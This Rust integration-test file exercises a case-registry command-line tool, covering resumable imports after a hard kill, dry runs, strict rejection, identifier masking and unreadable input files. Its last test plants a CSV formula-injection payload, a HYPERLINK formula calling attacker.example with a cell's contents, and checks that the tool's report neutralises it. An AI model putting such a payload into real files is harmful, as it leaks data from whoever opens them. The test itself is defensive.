//! The registry from the command line: synthetic files, imports that survive
//! `kill -9`, reports, dictionary and device look-ups.

use crate::{kallos, run, text};
use std::process::Stdio;
use std::time::{Duration, Instant};

fn generate(dir: &std::path::Path, count: u64, out: &std::path::Path) {
    let members = run(kallos(dir).args(["generate", "members", "--count", "300", "--seed", "4"]));
    assert!(members.status.success(), "{}", text(&members.stderr));
    let cases = run(kallos(dir)
        .args([
            "generate",
            "cases",
            "--count",
            &count.to_string(),
            "--years",
            "2023-2025",
            "--seed",
            "7",
            "--out",
        ])
        .arg(out));
    assert!(cases.status.success(), "{}", text(&cases.stderr));
}

fn summary(output: &std::process::Output) -> serde_json::Value {
    let stdout = text(&output.stdout);
    serde_json::from_str(stdout.lines().last().unwrap_or(""))
        .unwrap_or_else(|_| panic!("a JSON summary: {stdout} {}", text(&output.stderr)))
}

#[test]
fn an_import_killed_half_way_resumes_and_is_never_duplicated() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("cases.csv");
    generate(dir.path(), 120_000, &file);

    // Start an import in small batches and kill it, hard, once some are committed.
    let mut child = kallos(dir.path())
        .args(["import", "cases", "--batch-size", "500", "--json"])
        .arg(&file)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let db = dir.path().join("kallos.db");
    let started = Instant::now();
    let mut killed_while_running = false;
    while started.elapsed() < Duration::from_secs(120) {
        std::thread::sleep(Duration::from_millis(100));
        if let Some(_status) = child.try_wait().unwrap() {
            break;
        }
        let wal = std::fs::metadata(dir.path().join("kallos.db-wal"))
            .map(|m| m.len())
            .unwrap_or(0);
        if wal > 4_000_000 {
            std::process::Command::new("kill")
                .args(["-9", &child.id().to_string()])
                .status()
                .unwrap();
            child.wait().unwrap();
            killed_while_running = true;
            break;
        }
    }
    let _ = child.kill();
    let _ = child.wait();
    assert!(killed_while_running, "the import was killed while it ran");
    assert!(db.exists());

    let resumed = run(kallos(dir.path())
        .args(["import", "cases", "--json"])
        .arg(&file));
    assert!(resumed.status.success(), "{}", text(&resumed.stderr));
    assert!(
        text(&resumed.stderr).contains("resumed submission"),
        "{}",
        text(&resumed.stderr)
    );
    let s = summary(&resumed);
    assert_eq!(
        s["rows_read"], 120_000,
        "the resumed submission counts every row once: {s}"
    );
    assert_eq!(
        s["accepted"].as_i64().unwrap()
            + s["updated"].as_i64().unwrap()
            + s["unchanged"].as_i64().unwrap(),
        120_000
    );
    assert_eq!(s["rejected"], 0);

    // The same file again: nothing changes.
    let again = run(kallos(dir.path())
        .args(["import", "cases", "--json"])
        .arg(&file));
    let s = summary(&again);
    assert_eq!(
        (s["accepted"].as_i64(), s["unchanged"].as_i64()),
        (Some(0), Some(120_000)),
        "{s}"
    );

    let verify = run(kallos(dir.path()).args(["audit", "verify"]));
    assert!(verify.status.success(), "{}", text(&verify.stderr));
    // The incremental rollups survived the kill: a rebuild gives the same cube.
    let before = run(kallos(dir.path()).args(["rollups", "rebuild"]));
    assert!(
        text(&before.stdout).contains("from 120000 cases"),
        "{}",
        text(&before.stdout)
    );
}

#[test]
fn reports_dry_runs_and_strict_imports_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("cases.csv");
    generate(dir.path(), 50, &file);
    let mut csv = std::fs::read_to_string(&file).unwrap();
    let mut bad = vec![""; 37];
    for (index, value) in [
        (0, "BAD-1"),
        (1, "SBCP"),
        (4, "hospital"),
        (5, "BR"),
        (6, "BR"),
        (7, "2025-01-01"),
        (8, "BE-LIPO"),
        (10, "general"),
        (11, "jane@mail.example"),
        (12, "30"),
        (13, "F"),
        (15, "no"),
        (16, "no"),
        (17, "1"),
    ] {
        bad[index] = value;
    }
    csv.push_str(&bad.join(","));
    csv.push('\n');
    std::fs::write(&file, csv).unwrap();

    let dry = run(kallos(dir.path())
        .args(["import", "cases", "--dry-run", "--json"])
        .arg(&file));
    assert!(dry.status.success());
    let s = summary(&dry);
    assert_eq!(
        (
            s["accepted"].as_i64(),
            s["rejected"].as_i64(),
            s["submission"].is_null()
        ),
        (Some(50), Some(1), true)
    );
    assert!(
        text(&dry.stderr).contains("row 52, patient_key: looks like an email address"),
        "{}",
        text(&dry.stderr)
    );
    assert!(
        !text(&dry.stderr).contains("jane@mail.example"),
        "identifiers are masked in reports"
    );

    let report = dir.path().join("report.csv");
    let strict = run(kallos(dir.path())
        .args(["import", "cases", "--strict", "--json", "--report"])
        .arg(&report)
        .arg(&file));
    assert_eq!(strict.status.code(), Some(3), "a rejected file exits 3");
    assert_eq!(summary(&strict)["status"], "rejected");
    let report = std::fs::read_to_string(report).unwrap();
    assert!(
        report.starts_with("row,column,value,reason,severity\n52,\"patient_key\""),
        "{report}"
    );

    let ok = run(kallos(dir.path())
        .args(["import", "cases", "--json"])
        .arg(&file));
    assert_eq!(summary(&ok)["accepted"], 50);
    let found = run(kallos(dir.path()).args(["devices", "find", "--manufacturer", "Novabreast"]));
    assert!(found.status.success());
    let dictionary = run(kallos(dir.path()).args(["registry", "dictionary"]));
    assert_eq!(
        text(&dictionary.stdout),
        std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../docs/data-dictionary.md"
        ))
        .unwrap()
    );
}

/// UTF-16 of `text`, little-endian, with its byte-order mark.
fn utf16(text: &str) -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xFE];
    for unit in text.encode_utf16() {
        bytes.extend(unit.to_le_bytes());
    }
    bytes
}

/// The submission named in the error of a failed import.
fn failed_submission(stderr: &str) -> u64 {
    let (_, after) = stderr
        .split_once("(submission ")
        .unwrap_or_else(|| panic!("a failed submission: {stderr}"));
    let (id, rest) = after.split_once(' ').unwrap();
    assert!(
        rest.starts_with("failed; nothing was imported)"),
        "{stderr}"
    );
    id.parse().unwrap()
}

#[test]
fn a_file_not_readable_as_cases_fails_its_submission_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("cases.csv");
    generate(dir.path(), 30, &file);
    let good = std::fs::read_to_string(&file).unwrap();
    let mut random = Vec::with_capacity(65_536);
    let mut state: u64 = 0x2545_F491_4F6C_DD1D;
    while random.len() < 65_536 {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        random.extend_from_slice(&state.to_le_bytes());
    }
    let mut program = std::fs::read(env!("CARGO_BIN_EXE_kallos")).unwrap();
    program.truncate(256 * 1024);
    for (name, bytes, said) in [
        ("utf16.csv", utf16(&good), "the file is UTF-16 text"),
        (
            "semicolons.csv",
            good.replace(',', ";").into_bytes(),
            "the columns are separated by ';'",
        ),
        ("random.csv", random, "the file is not text"),
        ("kallos.csv", program, "the file is not text"),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        let mut ids = Vec::new();
        for _ in 0..2 {
            let output = run(kallos(dir.path()).args(["import", "cases"]).arg(&path));
            let stderr = text(&output.stderr);
            assert!(!output.status.success(), "{name}: {stderr}");
            assert!(stderr.contains(said), "{name}: {stderr}");
            ids.push(failed_submission(&stderr));
        }
        assert_ne!(ids[0], ids[1], "{name}: the failed submission was resumed");
    }
    let rebuilt = run(kallos(dir.path()).args(["rollups", "rebuild"]));
    assert!(
        text(&rebuilt.stdout).contains("from 0 cases"),
        "{}",
        text(&rebuilt.stdout)
    );
    let verify = run(kallos(dir.path()).args(["audit", "verify"]));
    assert!(verify.status.success(), "{}", text(&verify.stderr));
}

#[test]
fn the_report_written_by_the_command_line_holds_no_formula() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("cases.csv");
    generate(dir.path(), 5, &file);
    let csv = std::fs::read_to_string(&file).unwrap();
    let header: Vec<&str> = csv.lines().next().unwrap().split(',').collect();
    let mut row = vec![String::new(); header.len()];
    let column = |name: &str| header.iter().position(|c| *c == name).unwrap();
    for (name, value) in [
        (
            "case_id",
            "\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\"",
        ),
        ("society", "SBCP"),
        ("age", "-5"),
        ("sex", "@SUM(A1:A9)"),
    ] {
        row[column(name)] = value.to_owned();
    }
    std::fs::write(&file, format!("{csv}{}\n", row.join(","))).unwrap();
    let report = dir.path().join("report.csv");
    for dry_run in [true, false] {
        let mut command = kallos(dir.path());
        command.args(["import", "cases", "--report"]).arg(&report);
        if dry_run {
            command.arg("--dry-run");
        }
        let output = run(command.arg(&file));
        assert!(output.status.success(), "{}", text(&output.stderr));
        let written = std::fs::read_to_string(&report).unwrap();
        assert!(
            written
                .contains("\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\""),
            "{written}"
        );
        assert!(written.contains(",\"age\",\"'-5\","), "{written}");
        assert!(written.contains(",\"sex\",\"'@SUM(A1:A9)\","), "{written}");
        // Every cell of every line: a number, or quoted text that no
        // spreadsheet runs.
        for line in written.lines().skip(1) {
            let (row, rest) = line.split_once(',').unwrap();
            row.parse::<i64>().unwrap();
            for cell in rest.split("\",\"") {
                let cell = cell.trim_start_matches('"');
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{line}"
                );
            }
        }
    }
}
